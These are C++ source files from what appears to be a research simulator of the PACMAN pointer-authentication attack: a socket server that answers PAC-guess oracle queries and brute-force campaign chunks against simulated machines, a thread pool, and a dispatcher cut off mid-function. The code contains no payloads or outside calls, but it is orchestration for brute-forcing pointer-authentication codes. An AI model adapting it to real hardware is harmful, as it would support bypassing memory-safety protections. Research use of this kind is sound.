/** Parse a frame payload; nullopt on a malformed head line. */
std::optional<WireMessage> unpackMessage(const std::string &payload);

// --- Configuration codec -------------------------------------------

/**
 * Serialize the campaign-variable replica + supervision state. The
 * rendering is canonical (field-for-field, no float formatting), so
 * the text doubles as the server's replica-cache key: equal text ==
 * provisions an identical replica.
 */
std::string encodeReplicaWire(const ReplicaConfig &cfg,
                              const SupervisionConfig &sup);

/**
 * Parse encodeReplicaWire() output into @p cfg / @p sup, which start
 * from defaults (geometry stays the server's deployment default).
 * False on malformed or version-mismatched text.
 */
bool decodeReplicaWire(const std::string &text, ReplicaConfig &cfg,
                       SupervisionConfig &sup);

/** A decoded CHUNK request: which campaign, and which chunk of it. */
struct ChunkRequest
{
    enum class Kind
    {
        BruteForce,
        Accuracy,
    };

    Kind kind = Kind::BruteForce;
    BruteForceCampaignConfig bf;
    AccuracyCampaignConfig acc;
    Chunk chunk;

    /** The replica-wire text (server replica-cache key). */
    std::string configKey;
};

/** CHUNK request body for one brute-force campaign chunk. */
std::string encodeBfChunkRequest(const BruteForceCampaignConfig &cfg,
                                 const Chunk &chunk);

/** CHUNK request body for one accuracy campaign chunk. */
std::string
encodeAccuracyChunkRequest(const AccuracyCampaignConfig &cfg,
                           const Chunk &chunk);

/** Parse either CHUNK request body; nullopt when malformed. */
std::optional<ChunkRequest>
decodeChunkRequest(const std::string &body);

} // namespace pacman::runner

#endif // PACMAN_RUNNER_PROTOCOL_HH
