#include "server.hh"

#include <arpa/inet.h>
#include <netinet/in.h>
#include <poll.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <unistd.h>

#include <atomic>
#include <cctype>
#include <cerrno>
#include <chrono>
#include <condition_variable>
#include <csignal>
#include <cstdlib>
#include <cstring>
#include <deque>
#include <map>
#include <mutex>
#include <sstream>
#include <thread>
#include <unordered_map>
#include <vector>

#include "base/journal.hh"
#include "base/logging.hh"
#include "base/stats.hh"
#include "crypto/pac.hh"
#include "runner/chunk_codec.hh"
#include "runner/protocol.hh"

namespace pacman::runner
{

namespace
{

using Clock = std::chrono::steady_clock;

/** One accepted connection; jobs hold it alive past reader exit. */
struct Connection
{
    int fd = -1;

    /** Serializes response frames: service threads complete jobs out
     *  of order and interleave with reader-thread replies. */
    std::mutex writeMu;

    /** Tenant binding (set by HELLO, read by service threads). */
    std::mutex metaMu;
    std::string tenant = "-";
    std::optional<uint64_t> tenantKey;

    ~Connection()
    {
        if (fd >= 0)
            ::close(fd);
    }

    void
    setTenant(const std::string &name, uint64_t key)
    {
        std::lock_guard<std::mutex> lock(metaMu);
        tenant = name;
        tenantKey = key;
    }

    std::pair<std::string, std::optional<uint64_t>>
    tenantBinding()
    {
        std::lock_guard<std::mutex> lock(metaMu);
        return {tenant, tenantKey};
    }
};

/** One queued compute request. */
struct Job
{
    std::shared_ptr<Connection> conn;
    WireMessage msg;
    std::string tenant;
    std::optional<uint64_t> tenantKey;
    Clock::time_point enqueued;
};

/** A service thread's provisioned replica for one config key. */
struct CachedWorker
{
    std::unique_ptr<Worker> worker;
    ReplicaConfig replica;
    bool snapshot = true;
    uint64_t lastProvisions = 0;
    uint64_t lastRekeys = 0;
    // Last-seen superblock/decode-cache counters, for delta
    // accounting into the server-wide metrics: the core's counters
    // are monotonic per machine, the server sums deltas across all
    // cached workers of all service threads.
    cpu::SuperblockStats lastSb;
};

std::string
sanitizeMetricName(const std::string &name)
{
    std::string out;
    for (char ch : name)
        out += (std::isalnum(static_cast<unsigned char>(ch)) != 0)
                   ? ch
                   : '_';
    return out.empty() ? std::string("_") : out;
}

} // anonymous namespace

struct OracleServer::Impl
{
    ServerConfig cfg;

    std::atomic<bool> started{false};
    std::atomic<bool> draining{false};
    std::atomic<bool> drained{false};

    int unixFd = -1;
    int tcpFd = -1;
    uint16_t tcpPort = 0;

    std::thread acceptor;
    std::vector<std::thread> service;
    std::mutex connMu;
    std::vector<std::thread> readers;
    std::vector<std::weak_ptr<Connection>> conns;

    mutable std::mutex qmu;
    std::condition_variable qcv;
    std::deque<Job> queue;

    // --- metrics (operational; never determinism-bearing) ---
    std::atomic<uint64_t> connectionsAccepted{0};
    std::atomic<uint64_t> busyRejections{0};
    std::atomic<uint64_t> queriesServed{0};
    std::atomic<uint64_t> truthsServed{0};
    std::atomic<uint64_t> chunksServed{0};
    std::atomic<uint64_t> requestErrors{0};
    std::atomic<uint64_t> itemsRestored{0};
    std::atomic<uint64_t> replicaProvisions{0};
    std::atomic<uint64_t> pacRekeys{0};
    std::atomic<uint64_t> queuePeak{0};
    // Committed-fast-path telemetry, summed across every worker
    // replica this server has driven (satellite of the superblock
    // engine; same counters the per-machine stats report prints).
    std::atomic<uint64_t> sbBlocksBuilt{0};
    std::atomic<uint64_t> sbBlockHits{0};
    std::atomic<uint64_t> sbBlockInsts{0};
    std::atomic<uint64_t> sbInvalidations{0};
    std::atomic<uint64_t> sbFallbackExits{0};
    std::atomic<uint64_t> decodeHits{0};
    std::atomic<uint64_t> decodeMisses{0};
    // Timing-trace telemetry (DESIGN.md §4k), same delta scheme.
    std::atomic<uint64_t> traceRecorded{0};
    std::atomic<uint64_t> traceRecordFailures{0};
    std::atomic<uint64_t> traceReplays{0};
    std::atomic<uint64_t> traceOpsReplayed{0};
    std::atomic<uint64_t> traceGuardBreaks{0};
    std::atomic<uint64_t> traceSoftMisses{0};
    mutable std::mutex tenantMu;
    std::map<std::string, SampleStat> tenantLatencyUs;

    void reply(const std::shared_ptr<Connection> &conn, uint64_t id,
               const char *verb, std::string args = {},
               std::string body = {});
    void readerLoop(std::shared_ptr<Connection> conn);
    void serviceLoop();
    void acceptLoop();
    void executeJob(std::unordered_map<std::string, CachedWorker> &cache,
                    Job &job);
    CachedWorker &getWorker(
        std::unordered_map<std::string, CachedWorker> &cache,
        const std::string &key, const std::string &config_text);
    void accountWorker(CachedWorker &cw, uint64_t items);
    std::string metricsJson() const;
};

void
OracleServer::Impl::reply(const std::shared_ptr<Connection> &conn,
                          uint64_t id, const char *verb,
                          std::string args, std::string body)
{
    WireMessage m;
    m.id = id;
    m.verb = verb;
    m.args = std::move(args);
    m.body = std::move(body);
    try {
        std::lock_guard<std::mutex> lock(conn->writeMu);
        writeFrame(conn->fd, packMessage(m));
    } catch (const WireError &) {
        // Peer went away between request and response; the reader
        // loop notices the same EOF and retires the connection.
    }
}

void
OracleServer::Impl::readerLoop(std::shared_ptr<Connection> conn)
{
    try {
        while (std::optional<std::string> payload =
                   readFrame(conn->fd)) {
            std::optional<WireMessage> msg = unpackMessage(*payload);
            if (!msg) {
                requestErrors.fetch_add(1);
                reply(conn, 0, "ERR", "malformed message");
                continue;
            }
            const std::string &verb = msg->verb;
            if (verb == "PING") {
                // Health probes read the args: a draining server is
                // alive but not dispatchable (dispatch.hh breakers).
                reply(conn, msg->id, "OK",
                      draining.load() ? "draining" : "ready");
            } else if (verb == "HELLO") {
                std::istringstream in(msg->args);
                std::string name, secret_word;
                unsigned long long secret = 0;
                if (!(in >> name >> secret_word) ||
                    sscanf(secret_word.c_str(), "%llx", &secret) != 1) {
                    requestErrors.fetch_add(1);
                    reply(conn, msg->id, "ERR",
                          "usage: HELLO <name> <secret-hex>");
                    continue;
                }
                // The tenant key seeds Machine::rekey() for every
                // query this connection issues: same name + secret ==
                // same PAC keys across connections and server
                // restarts; different tenants never share keys.
                conn->setTenant(
                    name, Random::deriveSeed(
                              secret, Journal::crc32(name)));
                reply(conn, msg->id, "OK");
            } else if (verb == "METRICS") {
                reply(conn, msg->id, "OK", {}, metricsJson());
            } else if (verb == "DRAIN") {
                // Flag first: a client that has seen the OK must
                // observe draining() == true.
                draining.store(true);
                qcv.notify_all();
                reply(conn, msg->id, "OK");
            } else if (verb == "QUERY" || verb == "TRUTH" ||
                       verb == "CHUNK" || verb == "SLEEP") {
                if (draining.load()) {
                    reply(conn, msg->id, "ERR", "draining");
                    continue;
                }
                Job job;
                job.conn = conn;
                job.msg = std::move(*msg);
                std::tie(job.tenant, job.tenantKey) =
                    conn->tenantBinding();
                job.enqueued = Clock::now();
                bool admitted = false;
                {
                    std::lock_guard<std::mutex> lock(qmu);
                    if (queue.size() < cfg.maxQueue) {
                        queue.push_back(std::move(job));
                        uint64_t depth = queue.size(), peak;
                        while (depth > (peak = queuePeak.load()) &&
                               !queuePeak.compare_exchange_weak(peak,
                                                                depth)) {
                        }
                        admitted = true;
                    }
                }
                if (admitted) {
                    qcv.notify_one();
                } else {
                    busyRejections.fetch_add(1);
                    reply(conn, msg->id, "BUSY");
                }
            } else {
                requestErrors.fetch_add(1);
                reply(conn, msg->id, "ERR",
                      strprintf("unknown verb '%s'", verb.c_str()));
            }
        }
    } catch (const WireError &) {
        // Torn connection; nothing to answer.
    }
}

CachedWorker &
OracleServer::Impl::getWorker(
    std::unordered_map<std::string, CachedWorker> &cache,
    const std::string &key, const std::string &config_text)
{
    CachedWorker &cw = cache[key];
    if (!cw.worker) {
        ReplicaConfig replica;
        SupervisionConfig sup;
        if (!decodeReplicaWire(config_text, replica, sup))
            throw std::runtime_error("undecodable replica config");
        // Journal/quarantine paths never travel the wire: the
        // campaign owner journals decoded payloads client-side.
        cw.worker = std::make_unique<Worker>(replica, sup);
        cw.replica = replica;
        cw.snapshot = replica.snapshot;
    }
    return cw;
}

void
OracleServer::Impl::accountWorker(CachedWorker &cw, uint64_t items)
{
    if (cw.snapshot)
        itemsRestored.fetch_add(items);
    const uint64_t prov = cw.worker->provisions();
    replicaProvisions.fetch_add(prov - cw.lastProvisions);
    cw.lastProvisions = prov;
    const uint64_t rk = cw.worker->machine().rekeys();
    pacRekeys.fetch_add(rk - cw.lastRekeys);
    cw.lastRekeys = rk;
    const cpu::SuperblockStats &sb =
        cw.worker->machine().core().superblockStats();
    sbBlocksBuilt.fetch_add(sb.blocksBuilt - cw.lastSb.blocksBuilt);
    sbBlockHits.fetch_add(sb.blockHits - cw.lastSb.blockHits);
    sbBlockInsts.fetch_add(sb.blockInsts - cw.lastSb.blockInsts);
    sbInvalidations.fetch_add(sb.invalidations -
                              cw.lastSb.invalidations);
    sbFallbackExits.fetch_add(sb.fallbackExits -
                              cw.lastSb.fallbackExits);
    decodeHits.fetch_add(sb.decodeHits - cw.lastSb.decodeHits);
    decodeMisses.fetch_add(sb.decodeMisses - cw.lastSb.decodeMisses);
    traceRecorded.fetch_add(sb.tracesRecorded -
                            cw.lastSb.tracesRecorded);
    traceRecordFailures.fetch_add(sb.traceRecordFailures -
                                  cw.lastSb.traceRecordFailures);
    traceReplays.fetch_add(sb.traceReplays - cw.lastSb.traceReplays);
    traceOpsReplayed.fetch_add(sb.traceOpsReplayed -
                               cw.lastSb.traceOpsReplayed);
    traceGuardBreaks.fetch_add(sb.traceGuardBreaks -
                               cw.lastSb.traceGuardBreaks);
    traceSoftMisses.fetch_add(sb.traceSoftMisses -
                              cw.lastSb.traceSoftMisses);
    cw.lastSb = sb;
}

void
OracleServer::Impl::executeJob(
    std::unordered_map<std::string, CachedWorker> &cache, Job &job)
{
    const uint64_t id = job.msg.id;
    const std::string &verb = job.msg.verb;
    try {
        if (verb == "SLEEP") {
            unsigned long ms = std::strtoul(job.msg.args.c_str(),
                                            nullptr, 10);
            std::this_thread::sleep_for(std::chrono::milliseconds(ms));
            reply(job.conn, id, "OK");
        } else if (verb == "QUERY" || verb == "TRUTH") {
            std::istringstream in(job.msg.args);
            uint64_t candidate = 0, stream = 0;
            if (verb == "QUERY") {
                std::string cand_w, stream_w;
                unsigned long long c = 0, s = 0;
                if (!(in >> cand_w >> stream_w) ||
                    sscanf(cand_w.c_str(), "%llx", &c) != 1 ||
                    sscanf(stream_w.c_str(), "%llx", &s) != 1 ||
                    c > 0xFFFF) {
                    throw std::runtime_error(
                        "usage: QUERY <pac-hex> <stream-seed-hex>");
                }
                candidate = c;
                stream = s;
            } else if (!cfg.allowTruth) {
                throw std::runtime_error("TRUTH disabled");
            }
            CachedWorker &cw =
                getWorker(cache, job.msg.body, job.msg.body);
            // Tenant isolation: restore the checkpoint (discarding
            // the previous request's state), then rotate to the
            // tenant's PAC keys.
            const WorkRequest req{stream, stream, job.tenantKey};
            if (verb == "QUERY") {
                double misses = 0;
                bool hot = false;
                const WorkOutcome oc = cw.worker->run(
                    req, [&](attack::PacOracle &oracle,
                             kernel::Machine &) {
                        misses = oracle.sampledMisses(
                            uint16_t(candidate),
                            cw.replica.samples ? cw.replica.samples
                                               : 1);
                        hot = misses >=
                              double(oracle.config().missThreshold);
                    });
                accountWorker(cw, 1);
                if (!oc.completed)
                    throw std::runtime_error("query quarantined: " +
                                             oc.detail);
                queriesServed.fetch_add(1);
                reply(job.conn, id, "OK",
                      strprintf("%d %.17g", int(hot), misses));
            } else {
                uint16_t truth = 0;
                const WorkOutcome oc = cw.worker->run(
                    req, [&](attack::PacOracle &,
                             kernel::Machine &machine) {
                        const auto sel =
                            cw.replica.oracle.kind ==
                                    attack::GadgetKind::Data
                                ? crypto::PacKeySelect::DA
                                : crypto::PacKeySelect::IA;
                        truth = machine.kernel().truePac(
                            cw.replica.target, cw.replica.modifier,
                            sel);
                    });
                accountWorker(cw, 1);
                if (!oc.completed)
                    throw std::runtime_error("truth quarantined: " +
                                             oc.detail);
                truthsServed.fetch_add(1);
                reply(job.conn, id, "OK", strprintf("%04x", truth));
            }
        } else if (verb == "CHUNK") {
            std::optional<ChunkRequest> req =
                decodeChunkRequest(job.msg.body);
            if (!req)
                throw std::runtime_error("undecodable chunk request");
            std::string payload;
            uint64_t items = 1;
            CachedWorker &cw =
                getWorker(cache, req->configKey, req->configKey);
            if (req->kind == ChunkRequest::Kind::BruteForce) {
                const uint64_t n =
                    uint64_t(req->bf.last) - req->bf.first + 1;
                if (req->chunk.lastItem >= n)
                    throw std::runtime_error("chunk out of range");
                payload = executeBfChunk(*cw.worker, req->bf,
                                         req->chunk);
            } else {
                if (req->chunk.lastItem >= req->acc.trials)
                    throw std::runtime_error("chunk out of range");
                payload = executeAccuracyChunk(*cw.worker, req->acc,
                                               req->chunk);
                items = req->chunk.lastItem - req->chunk.firstItem + 1;
            }
            accountWorker(cw, items);
            const uint64_t served = chunksServed.fetch_add(1) + 1;
            reply(job.conn, id, "OK", {}, payload);
            if (cfg.crashAfterChunks != 0 &&
                served >= cfg.crashAfterChunks) {
                // Chaos harness: die right after the response frame,
                // as a SIGKILL'd server would — the client must
                // resume from its journal (bench/chaos_recovery).
                std::_Exit(137);
            }
        } else {
            throw std::runtime_error("unqueueable verb");
        }
    } catch (const std::exception &e) {
        requestErrors.fetch_add(1);
        reply(job.conn, id, "ERR", e.what());
    }
    const double us = std::chrono::duration<double, std::micro>(
                          Clock::now() - job.enqueued)
                          .count();
    std::lock_guard<std::mutex> lock(tenantMu);
    tenantLatencyUs[job.tenant].add(us);
}

void
OracleServer::Impl::serviceLoop()
{
    std::unordered_map<std::string, CachedWorker> cache;
    for (;;) {
        Job job;
        {
            std::unique_lock<std::mutex> lock(qmu);
            qcv.wait(lock, [&] {
                return !queue.empty() || draining.load();
            });
            if (queue.empty())
                return; // draining and nothing left
            job = std::move(queue.front());
            queue.pop_front();
        }
        executeJob(cache, job);
    }
}

void
OracleServer::Impl::acceptLoop()
{
    while (!draining.load()) {
        pollfd fds[2];
        nfds_t n = 0;
        if (unixFd >= 0)
            fds[n++] = {unixFd, POLLIN, 0};
        if (tcpFd >= 0)
            fds[n++] = {tcpFd, POLLIN, 0};
        const int rc = ::poll(fds, n, 100);
        if (rc < 0) {
            if (errno == EINTR)
                continue;
            warn("pacman-oracled: poll failed: %s",
                 std::strerror(errno));
            break;
        }
        for (nfds_t i = 0; i < n; ++i) {
            if (!(fds[i].revents & POLLIN))
                continue;
            const int cfd = ::accept(fds[i].fd, nullptr, nullptr);
            if (cfd < 0)
                continue;
            connectionsAccepted.fetch_add(1);
            auto conn = std::make_shared<Connection>();
            conn->fd = cfd;
            std::lock_guard<std::mutex> lock(connMu);
            conns.push_back(conn);
            readers.emplace_back(
                [this, conn] { readerLoop(conn); });
        }
    }
}

std::string
OracleServer::Impl::metricsJson() const
{
    std::string metrics;
    auto add = [&](const std::string &name, double value,
                   const char *better) {
        metrics += strprintf("%s\"%s\":{\"value\":%.17g,\"better\":"
                             "\"%s\"}",
                             metrics.empty() ? "" : ",", name.c_str(),
                             value, better);
    };
    {
        std::lock_guard<std::mutex> lock(qmu);
        add("queue_depth", double(queue.size()), "lower");
    }
    add("queue_peak", double(queuePeak.load()), "lower");
    add("busy_rejections", double(busyRejections.load()), "lower");
    add("connections_accepted", double(connectionsAccepted.load()),
        "higher");
    add("queries_served", double(queriesServed.load()), "higher");
    add("truths_served", double(truthsServed.load()), "higher");
    add("chunks_served", double(chunksServed.load()), "higher");
    add("request_errors", double(requestErrors.load()), "lower");
    add("checkpoint_restores", double(itemsRestored.load()), "higher");
    add("replica_provisions", double(replicaProvisions.load()),
        "lower");
    add("pac_rekeys", double(pacRekeys.load()), "higher");
    // Committed-fast-path telemetry: how much guest work the cached
    // superblock engine absorbed across all worker replicas, and how
    // often content/epoch validation had to drop cached state.
    const double sbBuilt = double(sbBlocksBuilt.load());
    const double sbHits = double(sbBlockHits.load());
    add("superblock_blocks_built", sbBuilt, "lower");
    add("superblock_block_hits", sbHits, "higher");
    add("superblock_block_insts", double(sbBlockInsts.load()),
        "higher");
    add("superblock_invalidations", double(sbInvalidations.load()),
        "lower");
    add("superblock_fallback_exits", double(sbFallbackExits.load()),
        "lower");
    if (sbBuilt + sbHits > 0)
        add("superblock_hit_rate", sbHits / (sbBuilt + sbHits),
            "higher");
    // Timing-trace memoization (DESIGN.md §4k): traces built, block
    // dispatches that replayed one, memory ops replayed without a
    // hierarchy walk, and the guard-break / divergence counts that
    // bound how often the model fell back to the live walk.
    add("timing_traces_recorded", double(traceRecorded.load()),
        "lower");
    add("timing_trace_record_failures",
        double(traceRecordFailures.load()), "lower");
    const double replays = double(traceReplays.load());
    add("timing_trace_replays", replays, "higher");
    add("timing_trace_ops_replayed", double(traceOpsReplayed.load()),
        "higher");
    add("timing_trace_guard_breaks", double(traceGuardBreaks.load()),
        "lower");
    add("timing_trace_soft_misses", double(traceSoftMisses.load()),
        "lower");
    if (sbHits > 0)
        add("timing_trace_replay_rate", replays / sbHits, "higher");
    const double dh = double(decodeHits.load());
    const double dm = double(decodeMisses.load());
    if (dh + dm > 0)
        add("decode_hit_rate", dh / (dh + dm), "higher");
    {
        std::lock_guard<std::mutex> lock(tenantMu);
        for (const auto &[tenant, lat] : tenantLatencyUs) {
            const std::string t = sanitizeMetricName(tenant);
            add("tenant_" + t + "_requests", double(lat.count()),
                "higher");
            if (lat.count() != 0) {
                add("tenant_" + t + "_latency_p50_us",
                    lat.percentile(50), "lower");
                add("tenant_" + t + "_latency_p99_us",
                    lat.percentile(99), "lower");
            }
        }
    }
    return strprintf(
        "{\"schema\":\"pacman-bench-v1\",\"context\":{\"bench\":"
        "\"pacman-oracled\",\"threads\":%u,\"max_queue\":%u},"
        "\"metrics\":{%s}}",
        cfg.threads, cfg.maxQueue, metrics.c_str());
}

OracleServer::OracleServer(const ServerConfig &cfg)
    : impl_(std::make_unique<Impl>())
{
    impl_->cfg = cfg;
}

OracleServer::~OracleServer()
{
    if (impl_->started.load() && !impl_->drained.load()) {
        requestDrain();
        waitDrained();
    }
}

void
OracleServer::start()
{
    Impl &im = *impl_;
    PACMAN_ASSERT(!im.started.load(), "server already started");
    PACMAN_ASSERT(!im.cfg.socketPath.empty(),
                  "server needs a socket path");
    PACMAN_ASSERT(im.cfg.threads >= 1 && im.cfg.maxQueue >= 1,
                  "server needs >= 1 thread and queue slot");

    // A dropped client must surface as a WireError (EPIPE), not a
    // process-killing SIGPIPE.
    ::signal(SIGPIPE, SIG_IGN);

    sockaddr_un addr{};
    if (im.cfg.socketPath.size() >= sizeof(addr.sun_path))
        throw std::runtime_error("socket path too long: " +
                                 im.cfg.socketPath);
    im.unixFd = ::socket(AF_UNIX, SOCK_STREAM, 0);
    if (im.unixFd < 0)
        throw std::runtime_error(strprintf("socket: %s",
                                           std::strerror(errno)));
    addr.sun_family = AF_UNIX;
    std::strncpy(addr.sun_path, im.cfg.socketPath.c_str(),
                 sizeof(addr.sun_path) - 1);
    ::unlink(im.cfg.socketPath.c_str());
    if (::bind(im.unixFd, reinterpret_cast<sockaddr *>(&addr),
               sizeof(addr)) != 0 ||
        ::listen(im.unixFd, 64) != 0) {
        throw std::runtime_error(strprintf("bind %s: %s",
                                           im.cfg.socketPath.c_str(),
                                           std::strerror(errno)));
    }

    if (im.cfg.tcpPort != 0) {
        im.tcpFd = ::socket(AF_INET, SOCK_STREAM, 0);
        if (im.tcpFd < 0)
            throw std::runtime_error(strprintf("tcp socket: %s",
                                               std::strerror(errno)));
        const int one = 1;
        ::setsockopt(im.tcpFd, SOL_SOCKET, SO_REUSEADDR, &one,
                     sizeof(one));
        sockaddr_in tcp{};
        tcp.sin_family = AF_INET;
        tcp.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
        tcp.sin_port =
            htons(im.cfg.tcpPort == 1 ? 0 : im.cfg.tcpPort);
        if (::bind(im.tcpFd, reinterpret_cast<sockaddr *>(&tcp),
                   sizeof(tcp)) != 0 ||
            ::listen(im.tcpFd, 64) != 0) {
            throw std::runtime_error(strprintf(
                "tcp bind 127.0.0.1:%u: %s", im.cfg.tcpPort,
                std::strerror(errno)));
        }
        socklen_t len = sizeof(tcp);
        ::getsockname(im.tcpFd, reinterpret_cast<sockaddr *>(&tcp),
                      &len);
        im.tcpPort = ntohs(tcp.sin_port);
    }

    im.started.store(true);
    for (unsigned t = 0; t < im.cfg.threads; ++t)
        im.service.emplace_back([&im] { im.serviceLoop(); });
    im.acceptor = std::thread([&im] { im.acceptLoop(); });
}

uint16_t
OracleServer::boundTcpPort() const
{
    return impl_->tcpPort;
}

void
OracleServer::requestDrain()
{
    impl_->draining.store(true);
    impl_->qcv.notify_all();
}

bool
OracleServer::draining() const
{
    return impl_->draining.load();
}

void
OracleServer::waitDrained()
{
    Impl &im = *impl_;
    PACMAN_ASSERT(im.started.load(), "server never started");
    requestDrain();
    if (im.acceptor.joinable())
        im.acceptor.join();
    for (std::thread &t : im.service) {
        if (t.joinable())
            t.join();
    }
    // All queued work is answered; unblock the readers (their peers
    // may keep the connection open indefinitely) and retire them.
    {
        std::lock_guard<std::mutex> lock(im.connMu);
        for (const std::weak_ptr<Connection> &weak : im.conns) {
            if (std::shared_ptr<Connection> conn = weak.lock())
                ::shutdown(conn->fd, SHUT_RDWR);
        }
    }
    for (std::thread &t : im.readers) {
        if (t.joinable())
            t.join();
    }
    if (im.unixFd >= 0) {
        ::close(im.unixFd);
        im.unixFd = -1;
        ::unlink(im.cfg.socketPath.c_str());
    }
    if (im.tcpFd >= 0) {
        ::close(im.tcpFd);
        im.tcpFd = -1;
    }
    im.drained.store(true);
}

std::string
OracleServer::metricsJson() const
{
    return impl_->metricsJson();
}

} // namespace pacman::runner
