#include "pool.hh"

#include <algorithm>
#include <atomic>
#include <thread>
#include <vector>

#include "base/logging.hh"

namespace pacman::runner
{

unsigned
effectiveJobs(unsigned jobs)
{
    if (jobs != 0)
        return jobs;
    const unsigned hw = std::thread::hardware_concurrency();
    return hw != 0 ? hw : 1;
}

uint64_t
chunkCount(uint64_t num_items, uint64_t chunk_size)
{
    PACMAN_ASSERT(chunk_size >= 1, "chunk size must be positive");
    // Not the usual (n + size - 1) / size: that wraps for num_items
    // within chunk_size of UINT64_MAX and would report ~0 chunks for
    // the largest item spaces.
    return num_items / chunk_size + (num_items % chunk_size != 0);
}

PoolOutcome
runChunked(const PoolConfig &cfg, uint64_t num_items, const ChunkFn &fn)
{
    PoolOutcome outcome;
    outcome.numChunks = chunkCount(num_items, cfg.chunkSize);
    if (outcome.numChunks == 0)
        return outcome;

    const unsigned jobs = effectiveJobs(cfg.jobs);
    constexpr uint64_t NoHit = ~uint64_t(0);

    std::atomic<uint64_t> cursor{0};
    std::atomic<uint64_t> cutoff{NoHit};
    std::atomic<uint64_t> run{0};
    std::atomic<uint64_t> skipped{0};

    auto work = [&](unsigned worker) {
        for (;;) {
            const uint64_t c =
                cursor.fetch_add(1, std::memory_order_relaxed);
            if (c >= outcome.numChunks)
                break;
            Chunk chunk;
            chunk.index = c;
            chunk.firstItem = c * cfg.chunkSize;
            chunk.lastItem = std::min(chunk.firstItem + cfg.chunkSize,
                                      num_items) - 1;
            // A hit strictly below this chunk makes its results
            // unmergeable no matter what they are; skipping is a pure
            // optimisation. Chunks at or below the cutoff always run
            // to completion (the cutoff only ever decreases).
            if (chunk.firstItem > cutoff.load(std::memory_order_acquire)) {
                skipped.fetch_add(1, std::memory_order_relaxed);
                continue;
            }
            const std::optional<uint64_t> hit = fn(worker, chunk);
            run.fetch_add(1, std::memory_order_relaxed);
            if (hit) {
                uint64_t cur = cutoff.load(std::memory_order_relaxed);
                while (*hit < cur &&
                       !cutoff.compare_exchange_weak(
                           cur, *hit, std::memory_order_acq_rel)) {
                }
            }
        }
    };

    if (jobs == 1) {
        work(0);
    } else {
        std::vector<std::thread> workers;
        workers.reserve(jobs);
        for (unsigned w = 0; w < jobs; ++w)
            workers.emplace_back(work, w);
        for (auto &t : workers)
            t.join();
    }

    outcome.chunksRun = run.load();
    outcome.chunksSkipped = skipped.load();
    const uint64_t hit = cutoff.load();
    if (hit != NoHit)
        outcome.firstHit = hit;
    return outcome;
}

} // namespace pacman::runner
