#include "dispatch.hh"

#include <algorithm>
#include <chrono>
#include <mutex>
#include <thread>
#include <vector>

#include "base/logging.hh"
#include "runner/pool.hh"

namespace pacman::runner
{

namespace
{

using Clock = std::chrono::steady_clock;

std::chrono::duration<double>
seconds(double s)
{
    return std::chrono::duration<double>(s);
}

} // anonymous namespace

struct EndpointPool::Impl
{
    /** Per-endpoint circuit-breaker state (guarded by mu). */
    struct Health
    {
        unsigned consecutiveFailures = 0;
        bool open = false;
        Clock::time_point reopenAt{};
    };

    explicit Impl(const DispatchConfig &cfg, unsigned workers)
        : cfg(cfg), health(cfg.endpoints.size()), conns(workers)
    {
        for (auto &row : conns)
            row.resize(cfg.endpoints.size());
    }

    ClientOptions
    chunkOptions() const
    {
        ClientOptions o;
        o.connectTimeoutSeconds = cfg.connectTimeoutSeconds;
        o.readTimeoutSeconds = cfg.chunkDeadlineSeconds;
        o.busyDeadlineSeconds = cfg.busyDeadlineSeconds;
        return o;
    }

    /**
     * Pick a dispatchable endpoint, starting from @p worker's
     * affinity slot rotated by @p attempt. Closed breakers win
     * immediately; an open breaker past its cooldown is claimed for a
     * half-open probe (the claim moves reopenAt forward so concurrent
     * workers don't pile probes onto one endpoint) and probed outside
     * the lock. Returns the endpoint index, or nullopt when every
     * breaker is open and unprobeable this round.
     */
    std::optional<size_t>
    pickEndpoint(unsigned worker, unsigned attempt)
    {
        const size_t n = cfg.endpoints.size();
        for (size_t i = 0; i < n; ++i) {
            const size_t ep = (worker + attempt + i) % n;
            bool probe = false;
            {
                std::lock_guard<std::mutex> lock(mu);
                Health &h = health[ep];
                if (!h.open)
                    return ep;
                if (Clock::now() >= h.reopenAt) {
                    h.reopenAt =
                        Clock::now() +
                        std::chrono::duration_cast<Clock::duration>(
                            seconds(cfg.probeAfterSeconds));
                    probe = true;
                    ++stats.probes;
                }
            }
            if (probe && probeEndpoint(ep))
                return ep;
        }
        return std::nullopt;
    }

    /** Half-open probe: fresh short-deadline connection + PING. A
     *  draining server answers but is not dispatchable, so it keeps
     *  the breaker open like a dead one. */
    bool
    probeEndpoint(size_t ep)
    {
        bool ok = false;
        try {
            ClientOptions o;
            o.connectTimeoutSeconds = cfg.probeTimeoutSeconds;
            o.readTimeoutSeconds = cfg.probeTimeoutSeconds;
            o.busyDeadlineSeconds = cfg.probeTimeoutSeconds;
            OracleClient probe(cfg.endpoints[ep], o);
            ok = probe.ping();
        } catch (const WireError &) {
            ok = false;
        }
        std::lock_guard<std::mutex> lock(mu);
        Health &h = health[ep];
        if (ok) {
            h.open = false;
            h.consecutiveFailures = 0;
        } else {
            ++stats.probeFailures;
        }
        return ok;
    }

    void
    markSuccess(size_t ep)
    {
        std::lock_guard<std::mutex> lock(mu);
        Health &h = health[ep];
        h.open = false;
        h.consecutiveFailures = 0;
    }

    void
    markFailure(size_t ep)
    {
        std::lock_guard<std::mutex> lock(mu);
        Health &h = health[ep];
        ++h.consecutiveFailures;
        if (!h.open && h.consecutiveFailures >= cfg.breakerThreshold) {
            h.open = true;
            h.reopenAt =
                Clock::now() +
                std::chrono::duration_cast<Clock::duration>(
                    seconds(cfg.probeAfterSeconds));
            ++stats.breakerOpens;
        }
    }

    const DispatchConfig &cfg;
    mutable std::mutex mu;
    std::vector<Health> health;
    DispatchStats stats;

    /** conns[worker][endpoint]; each worker touches only its own
     *  row, so rows need no locking. */
    std::vector<std::vector<std::unique_ptr<OracleClient>>> conns;
};

EndpointPool::EndpointPool(const DispatchConfig &cfg, unsigned workers)
    : cfg_(cfg), impl_(std::make_unique<Impl>(cfg_, workers))
{
    PACMAN_ASSERT(!cfg_.endpoints.empty(),
                  "EndpointPool needs at least one endpoint");
    PACMAN_ASSERT(workers > 0, "EndpointPool needs at least one worker");
    for (const std::string &spec : cfg_.endpoints)
        if (!parseEndpoint(spec))
            throw WireError("malformed endpoint: " + spec);
}

EndpointPool::~EndpointPool() = default;

std::string
EndpointPool::chunkPayload(unsigned worker,
                           const std::string &request_body)
{
    PACMAN_ASSERT(worker < impl_->conns.size(),
                  "worker slot out of range");
    const size_t preferred = worker % cfg_.endpoints.size();
    const unsigned max_attempts = cfg_.effectiveMaxAttempts();
    double backoff = cfg_.backoffMinSeconds;
    std::string last_error = "no endpoint available";

